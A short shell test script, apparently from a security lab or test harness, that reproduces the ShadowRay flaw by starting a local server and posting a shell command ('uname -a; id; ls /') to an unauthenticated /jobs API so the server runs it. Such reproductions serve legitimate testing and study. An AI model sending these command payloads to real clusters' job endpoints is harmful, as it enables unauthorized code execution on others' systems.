# ShadowRay: an unauthenticated jobs API on an AI cluster runs the
# attacker's shell command as the server.
. "$LIB/common.sh"
start_server
exploit /jobs 'uname -a; id; ls / > /dev/null'
stop_server
